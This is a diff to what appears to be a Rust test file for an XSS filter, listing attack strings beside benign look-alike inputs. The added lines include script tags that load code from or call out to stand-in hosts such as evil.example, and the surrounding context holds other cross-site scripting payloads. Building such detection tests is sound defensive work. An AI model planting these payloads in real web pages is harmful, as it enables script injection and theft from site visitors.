@@ -19,6 +19,8 @@ const ATTACKS: &[&str] = &[
     "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
     // Script elements.
     "<script>alert(1)</script>",
+    "hi:<script src=//evil.example/x.js></script>",
+    "Bob: hi::<script>fetch('//e.example')</script>",
     "\"><ScRiPt >prompt`1`</sCrIpT>",
     "</title><script>/*x*/confirm(document.domain)</script>",
     "<script\n>\nvar a = 1\n</script>",
@@ -160,6 +162,7 @@ const ATTACKS: &[&str] = &[
 
 /// What honest people and their programs say.
 const LOOK_ALIKES: &[&str] = &[
+    "let all = Vec::<Script>::with_capacity(4); all.push(var);",
     "<form action=\"/login\" method=\"post\"><input name=\"u\"></form>",
     "<form action=\"https://formspree.io/f/abc\" method=\"post\">",
     "<link rel=\"canonical\" href=\"https://example.com/a\">",
